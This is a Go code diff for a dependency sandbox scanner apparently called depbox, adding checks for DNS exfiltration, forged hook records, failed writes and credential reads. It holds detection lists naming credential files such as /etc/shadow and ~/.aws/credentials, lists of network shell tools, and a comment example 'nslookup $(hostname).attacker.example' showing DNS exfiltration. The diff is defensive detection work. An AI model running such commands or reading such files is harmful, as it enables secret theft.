@@ -72,10 +72,13 @@ func (c *checker) run() []Finding {
 			c.checkProcesses(d, phase, b)
 			c.checkInstall(d, phase, b)
 			c.checkWrites(d, phase, b)
-			c.checkCapabilities(d, phase, b)
+			c.checkHookBypass(d, phase, b)
+			c.checkUnexplained(d, phase, b)
 			c.checkUnattributed(d, phase, b)
 			c.checkPersistence(d, phase, b)
 			c.checkTimers(d, phase, b)
+			c.checkRemoteCode(d, phase, b)
+			c.checkDropper(d, phase, b)
 		}
 		c.checkSecretEnvNetwork(d)
 		if c.base != nil {
@@ -83,13 +86,20 @@ func (c *checker) run() []Finding {
 		}
 	}
 	// The function's own code is the user's, and not judged; but a canary
-	// leaving from its process, or behaviour there that no hook record
-	// explains (where hook bypasses land), is judged all the same.
+	// leaving from its process, records forged there, and behaviour there
+	// that no hook record explains (where hook bypasses land) are judged
+	// all the same.
 	if app := c.p.App; app != nil {
 		for _, phase := range phasesOf(app) {
 			b := app.Phases[phase]
-			c.checkExfiltration(app, phase, b)
+			c.checkExfiltration(app, phase, &profile.Behavior{Exfiltration: b.Exfiltration})
+			c.checkHookBypass(app, phase, &profile.Behavior{Forged: b.Forged})
+			c.checkUnexplained(app, phase, b)
 			c.checkUnattributed(app, phase, b)
+			c.checkRemoteCode(app, phase, b)
+		}
+		if c.base != nil {
+			c.checkAppBaseline(app)
 		}
 	}
 	slices.SortFunc(c.out, compareFindings)
@@ -211,6 +221,17 @@ func (c *checker) checkAdvisories(d *profile.Dependency) {
 			val += ": " + a.Summary
 		}
 		ev := Evidence{Event: "advisory", Values: []string{val}, Advisories: []string{a.ID}}
+		if a.NameOnly {
+			// A bundled copy of unknown version: the record names the
+			// package, not necessarily this version. A warning.
+			rule, sev, what := RuleVulnerable, Low, "a vulnerability"
+			if a.Kind == "malicious" {
+				rule, sev, what = RuleMaliciousPackage, Medium, "a malicious release"
+			}
+			c.add(rule, sev, d, "",
+				fmt.Sprintf("%s may have %s (%s): matched by name only, its version is unknown (pass the project's lockfile with --lockfile)", label(d), what, a.ID), ev)
+			continue
+		}
 		if a.Kind == "malicious" {
 			c.add(RuleMaliciousPackage, 0, d, "", fmt.Sprintf("%s is a known malicious package (%s)", label(d), a.ID), ev)
 			continue
@@ -229,7 +250,11 @@ func (c *checker) checkExfiltration(d *profile.Dependency, phase string, b *prof
 		}
 		var vals, canaries []string
 		for _, e := range b.Exfiltration {
-			vals = append(vals, fmt.Sprintf("%s via %s to %s (%s)", e.Canary, e.Channel, e.Destination, e.Encoding))
+			enc := e.Encoding
+			if e.Partial {
+				enc += ", partial"
+			}
+			vals = append(vals, fmt.Sprintf("%s via %s to %s (%s)", e.Canary, e.Channel, e.Destination, enc))
 			if !slices.Contains(canaries, e.Canary) {
 				canaries = append(canaries, e.Canary)
 			}
@@ -244,10 +269,12 @@ func (c *checker) checkExfiltration(d *profile.Dependency, phase string, b *prof
 var baitSuffixes = []string{
 	"/.aws/credentials", "/.aws/config", "/.npmrc", "/.netrc", "/.git-credentials",
 	"/.docker/config.json", "/.kube/config", "/.pgpass", "/.ssh",
-	"/proc/self/environ", "/etc/shadow", "/etc/gshadow", "/.env",
+	"/etc/shadow", "/etc/gshadow", "/.env",
 }
 
-var procEnvironRE = regexp.MustCompile(`^/proc/[0-9]+(/task/[0-9]+)?/environ$`)
+// procSecretRE: another process's environment or memory (the profile
+// masks pids as PID and TID).
+var procSecretRE = regexp.MustCompile(`^/proc/([0-9]+|PID|self|thread-self)(/task/([0-9]+|TID|self))?/(environ|mem)$`)
 
 // IsBaitPath reports whether p is a credential file depbox treats as bait.
 func IsBaitPath(p string) bool {
@@ -258,10 +285,11 @@ func IsBaitPath(p string) bool {
 		}
 	}
 	base := path.Base(p)
-	return strings.Contains(p, "/.ssh/") || strings.HasPrefix(base, ".env.") || procEnvironRE.MatchString(p)
+	return strings.Contains(p, "/.ssh/") || strings.HasPrefix(base, ".env.") || procSecretRE.MatchString(p)
 }
 
 func (c *checker) checkBaitFiles(d *profile.Dependency, phase string, b *profile.Behavior) {
+	whole := b
 	parts(b, func(b *profile.Behavior, un bool) {
 		var vals []string
 		for _, f := range b.Files {
@@ -278,8 +306,13 @@ func (c *checker) checkBaitFiles(d *profile.Dependency, phase string, b *profile
 		if len(vals) == 0 {
 			return
 		}
-		c.add(RuleBaitFileRead, 0, d, phase, fmt.Sprintf("%s read credential %s %s in the %s phase", label(d), plural(len(vals), "file", "files"), strings.Join(vals, ", "), phase),
-			Evidence{Event: baseline.KindFileRead, Values: vals, Unattributed: un})
+		// With no network, DNS or process in the same package and phase,
+		// nothing seen could have sent what was read: medium.
+		sev, msg := Medium, fmt.Sprintf("%s read credential %s %s in the %s phase, with no network, DNS or process there", label(d), plural(len(vals), "file", "files"), strings.Join(vals, ", "), phase)
+		if reachesOut(phase, whole) {
+			sev, msg = High, fmt.Sprintf("%s read credential %s %s and reached out (network, DNS or a process) in the %s phase", label(d), plural(len(vals), "file", "files"), strings.Join(vals, ", "), phase)
+		}
+		c.add(RuleBaitFileRead, sev, d, phase, msg, Evidence{Event: baseline.KindFileRead, Values: vals, Unattributed: un})
 	})
 }
 
@@ -383,6 +416,15 @@ func (c *checker) checkSecretEnvNetwork(d *profile.Dependency) {
 					newPeer = newPeer || !c.accepted(d, phase, baseline.EndpointItem(e, un))
 				}
 			}
+			// A DNS query is network too: a name can carry a secret.
+			for _, q := range dnsNetwork(b) {
+				if !slices.Contains(short, q.Name) && !hostConnected(b, q.Name) {
+					peers = append(peers, "dns "+q.Name)
+					short = append(short, q.Name)
+					unattributed = unattributed || un
+					newPeer = newPeer || !c.accepted(d, phase, baseline.DNSItem(q, un))
+				}
+			}
 		})
 		if len(peers) == 0 || !(newSecret || newPeer) {
 			continue
@@ -392,7 +434,10 @@ func (c *checker) checkSecretEnvNetwork(d *profile.Dependency) {
 			vals = append(vals, "env "+s)
 		}
 		for _, p := range peers {
-			vals = append(vals, "network "+p)
+			if !strings.HasPrefix(p, "dns ") {
+				p = "network " + p
+			}
+			vals = append(vals, p)
 		}
 		c.add(RuleSecretEnvNetwork, 0, d, phase,
 			fmt.Sprintf("%s read secret %s %s and connected to %s in the %s phase", label(d), plural(len(secrets), "variable", "variables"),
@@ -406,7 +451,10 @@ func (c *checker) checkSecretEnvNetwork(d *profile.Dependency) {
 var (
 	shells      = []string{"sh", "bash", "dash", "zsh", "ash", "ksh", "mksh", "csh", "tcsh", "fish", "busybox"}
 	downloaders = []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "ftp", "tftp", "scp", "sftp", "ssh", "telnet", "aria2c"}
-	windows     = []string{"powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe"}
+	// netTools resolve names or probe hosts: DNS beacons and exfiltration
+	// (nslookup $(hostname).attacker.example).
+	netTools = []string{"nslookup", "dig", "host", "drill", "ping", "ping6", "traceroute"}
+	windows  = []string{"powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe"}
 	// interpreters maps an interpreter to the flags that run inline code.
 	interpreters = map[string][]string{
 		"node": {"-e", "--eval", "-p", "--print", "-pe"}, "nodejs": {"-e", "--eval", "-p", "--print", "-pe"},
@@ -441,6 +489,8 @@ func suspiciousProcess(p profile.Process) string {
 		return "shell"
 	case slices.Contains(downloaders, prog):
 		return "downloader"
+	case slices.Contains(netTools, prog):
+		return "network tool"
 	case slices.Contains(windows, strings.ToLower(prog)):
 		return "Windows shell"
 	}
@@ -465,10 +515,10 @@ func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile
 		var vals, kinds []string
 		for _, p := range b.Processes {
 			why := suspiciousProcess(p)
-			if why == "" || (phase == profile.PhaseInstall && scriptRunner(p)) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
+			if why == "" || (phase == profile.PhaseInstall && (scriptRunner(p) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
 				continue
 			}
-			vals = append(vals, baseline.JoinArgv(p.Argv))
+			vals = append(vals, processValue(p))
 			if !slices.Contains(kinds, why) {
 				kinds = append(kinds, why)
 			}
@@ -479,6 +529,17 @@ func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile
 		c.add(RuleShellDownloader, 0, d, phase, fmt.Sprintf("%s started a %s in the %s phase: %s", label(d), strings.Join(kinds, "/"), phase, strings.Join(vals, "; ")),
 			Evidence{Event: baseline.KindProcess, Values: vals, Unattributed: un})
 	})
+}
+
+// processValue is a process as evidence: its command line, and the result
+// when the program could not run (a program that does not exist is judged
+// like one that ran).
+func processValue(p profile.Process) string {
+	v := baseline.JoinArgv(p.Argv)
+	if p.Result != "" && p.Result != "ok" {
+		v += " (" + p.Result + ")"
+	}
+	return v
 }
 
 // --- DBX008 install-network, DBX009 install-process -------------------------
@@ -506,7 +567,7 @@ func (c *checker) checkInstall(d *profile.Dependency, phase string, b *profile.B
 		var procs []string
 		for _, p := range b.Processes {
 			if !scriptRunner(p) && !c.accepted(d, phase, baseline.ProcessItem(p, un)) {
-				procs = append(procs, baseline.JoinArgv(p.Argv))
+				procs = append(procs, processValue(p))
 			}
 		}
 		if len(procs) > 0 {
@@ -535,7 +596,11 @@ func netEvent(vals []string) string {
 
 // --- DBX012 write-outside-tmp ------------------------------------------------
 
-var procFdRE = regexp.MustCompile(`^/proc/[0-9]+/fd/`)
+var (
+	procFdRE = regexp.MustCompile(`^/proc/[0-9]+/fd/`)
+	// A thread naming itself (pthread_setname_np) writes its comm file.
+	commRE = regexp.MustCompile(`^/proc/(self|thread-self|PID|[0-9]+)(/task/(TID|[0-9]+))?/comm$`)
+)
 
 // writable reports whether a write to p is expected in a function sandbox.
 func writable(p string) bool {
@@ -549,13 +614,13 @@ func writable(p string) bool {
 			return true
 		}
 	}
-	return procFdRE.MatchString(p)
+	return procFdRE.MatchString(p) || commRE.MatchString(p)
 }
 
 func (c *checker) checkWrites(d *profile.Dependency, phase string, b *profile.Behavior) {
 	own := "/" + d.Path + "/"
 	parts(b, func(b *profile.Behavior, un bool) {
-		var vals []string
+		var wrote, tried []string
 		for _, f := range b.Files {
 			if f.Access != profile.AccessWrite && f.Access != profile.AccessReadWrite {
 				continue
@@ -564,17 +629,21 @@ func (c *checker) checkWrites(d *profile.Dependency, phase string, b *profile.Be
 				c.accepted(d, phase, baseline.FileItem(f, un)) {
 				continue
 			}
-			v := f.Path
 			if f.Failed {
-				v += " (open failed)"
+				tried = append(tried, f.Path+" (open failed)")
+			} else {
+				wrote = append(wrote, f.Path)
 			}
-			vals = append(vals, v)
 		}
-		if len(vals) == 0 {
-			return
+		if len(wrote) > 0 {
+			c.add(RuleWriteOutsideTmp, 0, d, phase, fmt.Sprintf("%s wrote outside /tmp in the %s phase: %s", label(d), phase, strings.Join(wrote, ", ")),
+				Evidence{Event: baseline.KindFileWrite, Values: wrote, Unattributed: un})
 		}
-		c.add(RuleWriteOutsideTmp, 0, d, phase, fmt.Sprintf("%s wrote outside /tmp in the %s phase: %s", label(d), phase, strings.Join(vals, ", ")),
-			Evidence{Event: baseline.KindFileWrite, Values: vals, Unattributed: un})
+		// A write that failed changed nothing: an attempt, reported lower.
+		if len(tried) > 0 {
+			c.add(RuleWriteOutsideTmp, Medium, d, phase, fmt.Sprintf("%s tried to write outside /tmp in the %s phase (every open failed): %s", label(d), phase, strings.Join(tried, ", ")),
+				Evidence{Event: eventWriteAttempt, Values: tried, Unattributed: un})
+		}
 	})
 }
 
@@ -582,29 +651,43 @@ func (c *checker) checkWrites(d *profile.Dependency, phase string, b *profile.Be
 
 var bypassCaps = []string{"hook-tamper", "unhooked-child"}
 
-func (c *checker) checkCapabilities(d *profile.Dependency, phase string, b *profile.Behavior) {
-	parts(b, func(b *profile.Behavior, un bool) {
-		var vals []string
-		for _, cp := range b.Capabilities {
-			if slices.Contains(bypassCaps, cp) {
-				vals = append(vals, cp)
-			}
+// checkHookBypass: capabilities that go around the hook, and hook records
+// the dependency forged (own behaviour only: what went around the hook
+// unattributed is checkUnexplained's).
+func (c *checker) checkHookBypass(d *profile.Dependency, phase string, b *profile.Behavior) {
+	var vals, events []string
+	for _, cp := range b.Capabilities {
+		if slices.Contains(bypassCaps, cp) {
+			vals = append(vals, cp)
+			events = appendOnce(events, baseline.KindCapability)
 		}
-		if len(vals) == 0 {
-			return
-		}
-		c.add(RuleHookBypass, 0, d, phase, fmt.Sprintf("%s bypassed depbox's hooks in the %s phase (%s)", label(d), phase, strings.Join(vals, ", ")),
-			Evidence{Event: baseline.KindCapability, Values: vals, Unattributed: un})
-	})
+	}
+	for _, f := range b.Forged {
+		vals = append(vals, forgedValue(f))
+		events = appendOnce(events, EventForgery)
+	}
+	if len(vals) == 0 {
+		return
+	}
+	c.add(RuleHookBypass, 0, d, phase, fmt.Sprintf("%s bypassed depbox's hooks in the %s phase (%s)", label(d), phase, strings.Join(vals, ", ")),
+		Evidence{Event: strings.Join(events, "+"), Values: vals})
+}
+
+func appendOnce(l []string, s string) []string {
+	if slices.Contains(l, s) {
+		return l
+	}
+	return append(l, s)
 }
 
 // --- DBX014 unattributed-behaviour --------------------------------------------
 
 func (c *checker) checkUnattributed(d *profile.Dependency, phase string, b *profile.Behavior) {
-	if b.Unattributed.Empty() {
+	rest := routine(b.Unattributed) // the sensitive part is checkUnexplained's
+	if rest.Empty() {
 		return
 	}
-	items := baseline.BehaviorItems(&profile.Behavior{Unattributed: b.Unattributed})
+	items := baseline.BehaviorItems(&profile.Behavior{Unattributed: rest})
 	vals := make([]string, 0, len(items))
 	kinds := []string{}
 	for _, it := range items {
@@ -619,7 +702,8 @@ func (c *checker) checkUnattributed(d *profile.Dependency, phase string, b *prof
 	if len(vals) == 0 {
 		return
 	}
-	c.add(RuleUnattributed, 0, d, phase, fmt.Sprintf("%s: %d %s in the %s phase not explained by a hook record", label(d), len(vals), plural(len(vals), "behaviour", "behaviours"), phase),
+	c.add(RuleUnattributed, 0, d, phase, fmt.Sprintf("%s: %d %s in the %s phase not explained by a hook record%s", label(d), len(vals), plural(len(vals), "behaviour", "behaviours"), phase,
+		c.suspects(b.Unattributed.Loaded, phase)),
 		Evidence{Event: strings.Join(kinds, "+"), Values: vals, Unattributed: true})
 }
 
